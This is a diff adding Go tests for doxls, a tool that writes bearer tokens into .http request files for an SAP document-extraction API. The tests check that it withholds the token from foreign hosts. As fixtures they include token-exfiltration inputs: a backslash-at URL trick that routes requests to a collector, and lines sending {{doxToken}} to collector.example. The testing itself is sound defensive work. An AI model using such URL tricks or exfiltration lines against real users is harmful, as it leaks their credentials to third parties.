@@ -1,0 +1,162 @@
+package main
+
+import (
+	"encoding/json"
+	"fmt"
+	"os"
+	"path/filepath"
+	"slices"
+	"strings"
+	"testing"
+
+	"github.com/doxls/doxls/auth/uaatest"
+)
+
+// A "\" ends the authority of an http(s) URL for httpyac (Node's URL), so
+// http://<collector>\@<api>/… goes to the collector: doxls skips it, and
+// httpyac run on the edited file proves the collector never gets the token
+// (issue 12). The old reading took the host after the "@".
+func TestBearerReadsBackslashAtAsClientsDo(t *testing.T) {
+	emu, dir := keyDir(t)
+	collector := startForeign(t)
+	api := strings.TrimPrefix(emu.APIURL, "http://")
+	trick := collector.URL + `\@` + api + "/document-information-extraction/v1/capabilities"
+	src := "### The DOX API\nGET " + emu.APIURL + "/document-information-extraction/v1/capabilities\n\n" +
+		"### Looks like the DOX API\nGET " + trick + "\n"
+	path := writeFile(t, dir, "dox.http", []byte(src))
+
+	res := runDoxls(t, dir, nil, "bearer", "--key", "dox-key.json", "dox.http")
+	after, _ := os.ReadFile(path)
+	token := tokenIn(t, after)
+	want := fmt.Sprintf("dox.http: 1 edit(s)\ndox.http:5: skipped: foreign host %s\n", strings.TrimPrefix(collector.URL, "http://"))
+	if res.code != 0 || res.stdout != want {
+		t.Fatalf("doxls bearer: exit %d, stdout %q, stderr %q, want %q", res.code, hideToken(res.stdout, token), hideToken(res.stderr, token), want)
+	}
+
+	runHttpyac(t, dir, token, "dox.http", "--all", "--output", "none")
+	// The "\" became the first "/" of the path the collector got.
+	wantCollector := "GET /@" + api + "/document-information-extraction/v1/capabilities Authorization="
+	if got := collector.requests(); !slices.Equal(got, []string{wantCollector}) {
+		t.Errorf("the collector received %q, want %q", hideToken(strings.Join(got, "; "), token), wantCollector)
+	}
+	if got := apiCalls(emu); !slices.Equal(got, []string{"GET /document-information-extraction/v1/capabilities authorized=true"}) {
+		t.Errorf("the DOX API stub received %q", got)
+	}
+}
+
+// keyDir is a folder holding the emulator's key as dox-key.json.
+func keyDir(t *testing.T) (*uaatest.Server, string) {
+	t.Helper()
+	emu := startUAA(t)
+	dir := t.TempDir()
+	writeFile(t, dir, "dox-key.json", emu.KeyJSON(uaatest.DefaultClient))
+	return emu, dir
+}
+
+// keyWithHosts is the emulator's key with the API and the tenant UI on
+// hosts of a real subaccount: the token comes from the emulator, the
+// request file names the real hosts (nothing is sent to them).
+func keyWithHosts(t *testing.T, emu *uaatest.Server, api, tenantUI string) []byte {
+	t.Helper()
+	var k map[string]any
+	if err := json.Unmarshal(emu.KeyJSON(uaatest.DefaultClient), &k); err != nil {
+		t.Fatal(err)
+	}
+	k["url"], k["tenantuiurl"] = api, tenantUI
+	k["endpoints"] = map[string]any{"backend": map[string]any{"url": api, "timeout": 30000}}
+	b, err := json.Marshal(k)
+	if err != nil {
+		t.Fatal(err)
+	}
+	return b
+}
+
+// The token goes only over https, to the API host and to the tenant UI
+// host (SAP's Swagger UI lives there, and users copy its URLs): http:// and
+// a URL without a scheme, which JetBrains sends over http,
+// are skipped with the reason (issue 12, issue 15).
+func TestBearerHTTPSOnlyAndTheTenantUIHost(t *testing.T) {
+	emu := startUAA(t)
+	dir := t.TempDir()
+	api, ui := "aiservices-trial-dox.cfapps.us10.hana.ondemand.com", "mysub.eu10.doc.cloud.sap"
+	writeFile(t, dir, "dox-key.json", keyWithHosts(t, emu, "https://"+api, "https://"+ui))
+	src := "GET https://" + api + "/document-information-extraction/v1/capabilities\n\n###\n" +
+		"GET https://" + ui + "/document-information-extraction/v1/capabilities\n\n###\n" +
+		"GET http://" + api + "/document-information-extraction/v1/capabilities\n\n###\n" +
+		"GET " + api + "/document-information-extraction/v1/capabilities\n"
+	path := writeFile(t, dir, "dox.http", []byte(src))
+
+	res := runDoxls(t, dir, nil, "bearer", "--key", "dox-key.json", "dox.http")
+	after, _ := os.ReadFile(path)
+	token := tokenIn(t, after)
+	want := "dox.http: 2 edit(s)\n" +
+		"dox.http:7: skipped: the URL is http://, the token would travel in clear text: write https://\n" +
+		"dox.http:10: skipped: no https:// in the URL: HTTP clients disagree on where it goes (JetBrains sends it over plain http)\n"
+	if res.code != 0 || res.stdout != want {
+		t.Fatalf("doxls bearer: exit %d, stdout %q, stderr %q, want %q", res.code, hideToken(res.stdout, token), hideToken(res.stderr, token), want)
+	}
+	if n := strings.Count(string(after), "Authorization: Bearer "+token); n != 2 {
+		t.Errorf("%d requests got the token, want the API's and the tenant UI's", n)
+	}
+}
+
+// envFile mode on the command line: the token never goes into the
+// environment file when a foreign request reads the same variable (issue
+// 12: httpyac --env dev would send it there).
+func TestBearerEnvFileRefusesATaintedVariable(t *testing.T) {
+	emu, dir := keyDir(t)
+	src := "GET " + emu.APIURL + "/document-information-extraction/v1/capabilities\nAuthorization: Bearer {{doxToken}}\n\n###\n" +
+		"POST https://collector.example/t\nAuthorization: Bearer {{doxToken}}\n"
+	path := writeFile(t, dir, "dox.http", []byte(src))
+
+	res := runDoxls(t, dir, nil, "bearer", "--key", "dox-key.json", "--mode", "envFile", "dox.http")
+	want := "dox.http: 0 edit(s)\n" +
+		"dox.http:1: skipped: token variable {{doxToken}} is also sent to collector.example\n" +
+		"dox.http:5: skipped: foreign host collector.example\n"
+	if res.code != 0 || res.stdout != want {
+		t.Errorf("doxls bearer --mode envFile: exit %d, stdout %q, stderr %q, want %q", res.code, res.stdout, res.stderr, want)
+	}
+	if _, err := os.Stat(filepath.Join(dir, "http-client.private.env.json")); !os.IsNotExist(err) {
+		t.Errorf("the environment file was written (%v)", err)
+	}
+	if b, _ := os.ReadFile(path); string(b) != src {
+		t.Error("the request file changed")
+	}
+}
+
+// Another request file beside it reads the same environment file: the
+// token does not go there either (clients look for the environment file
+// from each request file's folder upwards).
+func TestBearerEnvFileRefusesWhenAnotherFileReadsTheVariable(t *testing.T) {
+	emu, dir := keyDir(t)
+	src := "GET " + emu.APIURL + "/document-information-extraction/v1/capabilities\nAuthorization: Bearer {{doxToken}}\n"
+	writeFile(t, dir, "dox.http", []byte(src))
+	writeFile(t, dir, "tools/collect.http", []byte("POST https://collector.example/t\nX-Copy: {{doxToken}}\n"))
+
+	res := runDoxls(t, dir, nil, "bearer", "--key", "dox-key.json", "--mode", "envFile", "dox.http")
+	want := "dox.http: 0 edit(s)\ndox.http:1: skipped: token variable {{doxToken}} is also sent to collector.example by tools/collect.http\n"
+	if res.code != 0 || res.stdout != want {
+		t.Errorf("doxls bearer --mode envFile: exit %d, stdout %q, stderr %q, want %q", res.code, res.stdout, res.stderr, want)
+	}
+	if _, err := os.Stat(filepath.Join(dir, "http-client.private.env.json")); !os.IsNotExist(err) {
+		t.Errorf("the environment file was written (%v)", err)
+	}
+}
+
+// doxls init in envFile mode checks the request files that will share the
+// environment file, too.
+func TestInitEnvFileRefusesWhenAnotherFileReadsTheVariable(t *testing.T) {
+	_, dir := keyDir(t)
+	writeFile(t, dir, "requests/old/collect.http", []byte("POST https://collector.example/t\nAuthorization: Bearer {{doxToken}}\n"))
+
+	res := runDoxls(t, dir, nil, "init", "requests", "--mode", "envFile")
+	// The folder as the program sees it (macOS resolves /var to /private/var).
+	want := string(filepath.Separator) + filepath.Join("requests", "http-client.private.env.json") +
+		": token variable {{doxToken}} is also sent to collector.example by old/collect.http (docs/security.md)\n"
+	if res.code != 1 || !strings.HasPrefix(res.stderr, "doxls: the token cannot go into ") || !strings.HasSuffix(res.stderr, want) || res.stdout != "" {
+		t.Errorf("doxls init --mode envFile: exit %d, stdout %q, stderr %q, want exit 1 and %q", res.code, res.stdout, res.stderr, want)
+	}
+	if _, err := os.Stat(filepath.Join(dir, "requests", "http-client.private.env.json")); !os.IsNotExist(err) {
+		t.Errorf("the environment file was written (%v)", err)
+	}
+}
